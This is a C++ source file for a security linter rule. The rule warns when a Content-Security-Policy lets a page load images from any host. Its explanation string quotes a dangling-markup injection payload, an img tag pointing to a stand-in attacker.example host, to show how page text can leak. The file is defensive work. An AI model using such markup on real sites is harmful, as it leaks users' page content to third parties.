#include "rules/csp/any_host.hpp"
#include "rules/rule.hpp"

namespace headstrong::rules::csp_image_any_host {

using namespace csp_rules;

void check(const Context& context, Sink& sink) {
  const decide::PolicyDecision* by = allowed_by_source(context, Attack::HttpsImage);
  if (by == nullptr || is_said_of_scripts(context, *by)) return;
  sink.at(*by->policy, by->source->span).arguments = {std::string(by->source->text),
                                                      std::string(by->directive->name_text)};
}

extern const RuleSpec kRule = {
    {
        .id = "csp/image-any-host",
        .header = "Content-Security-Policy",
        .severity = Severity::Info,
        .category = Category::Security,
        .confidence = Confidence::Certain,
        .title = "Images may come from any host",
        .message = "{0} in {1} lets the page load images from any host.",
        .why = "An image URL can carry data out: injected markup such as <img "
               "src='https://attacker.example/? with an open quote swallows the page's text up to "
               "the next quote and sends it to the attacker. Pages that show images from "
               "everywhere have to accept this.",
        .advice = "List your image hosts, or serve other sites' images through your own host.",
        .references = {"https://www.w3.org/TR/CSP3/#directive-img-src",
                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                       "Content-Security-Policy/img-src"},
        .bad = "default-src 'self'; img-src 'self' https:",
        .good = "default-src 'self'; img-src 'self' data:",
    },
    check,
};

}  // namespace headstrong::rules::csp_image_any_host
